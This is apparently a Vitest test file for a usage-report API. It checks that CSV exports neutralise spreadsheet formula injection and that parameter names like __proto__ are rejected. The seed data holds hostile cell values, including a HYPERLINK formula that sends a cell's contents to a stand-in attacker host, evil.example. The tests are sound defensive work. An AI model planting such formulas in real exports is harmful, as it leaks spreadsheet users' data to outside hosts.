import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reportFixture } from "../setup/reports.ts";

/** Customer names a spreadsheet would run as formulas, each as a client could send it. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
const seeds = [
  ...FORMULAS.map((customer, i) => ({ received_at: "2026-03-01T08:00:00.000Z", customer, cost_nanos: i + 1 })),
  { received_at: "2026-03-01T09:00:00.000Z", customer: "acme", cost_nanos: 10 },
];

let fixture: Awaited<ReturnType<typeof reportFixture>>;
beforeAll(async () => {
  fixture = await reportFixture(["feature"], seeds);
});
afterAll(async () => {
  await fixture?.gateway.close();
});

describe("GET /usage/costs?format=csv against hostile values", () => {
  it("prefixes every cell a spreadsheet would run as a formula with ', and is an attachment", async () => {
    const response = await fixture.get(
      "/usage/costs?from=2026-03-01&to=2026-03-02&group_by=billable_customer_id&format=csv",
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="?costs_2026-03-01_2026-03-02\.csv"?$/,
    );
    const text = await response.text();
    // RFC 4180 quoting is unchanged: a field with a quote or a line break is quoted, quotes doubled.
    const expected = [
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tcmd",
      `"'\rcmd"`,
    ];
    for (const cell of expected) expect(text).toContain(`group,${cell},`);
    expect(text).toContain("group,acme,0.000000010,10,1,");
    for (const name of FORMULAS) expect(text).not.toContain(`group,${name}`);
  });
});

describe("the report routes refuse parameters named like Object's own properties", () => {
  for (const [path, name] of [
    ["/usage/costs", "constructor"],
    ["/usage/costs", "__proto__"],
    ["/usage/costs", "hasOwnProperty"],
    ["/usage/unpriced", "toString"],
    ["/usage/unpriced", "valueOf"],
    ["/usage/unpriced", "__proto__"],
  ] as const) {
    it(`${path}?${name}=x -> 400 validation_error`, async () => {
      const response = await fixture.get(`${path}?${name}=x`);
      expect(response.status).toBe(400);
      const body = await response.json();
      expect(body.error.code).toBe("validation_error");
      expect(body.error.details).toEqual([
        { field: name, code: "invalid_value", message: `${name} is not a parameter of this route` },
      ]);
    });
  }
});
